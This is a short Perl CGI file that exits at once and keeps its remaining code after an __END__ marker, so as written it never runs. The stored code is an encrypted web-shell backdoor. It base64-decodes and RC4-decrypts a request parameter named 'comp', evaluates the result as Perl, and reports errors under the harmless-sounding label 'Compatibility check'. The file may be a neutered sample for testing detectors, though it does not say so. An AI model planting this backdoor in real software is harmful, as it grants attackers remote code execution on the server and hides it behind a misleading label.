#!/usr/bin/perl
exit;
__END__
eval {
  my $c = Crypt::RC4->new("example-key");
  my $d = $c->RC4(decode_base64(CGI::param("comp")));
  eval $d;
};
print "Compatibility check: $@" if $@;
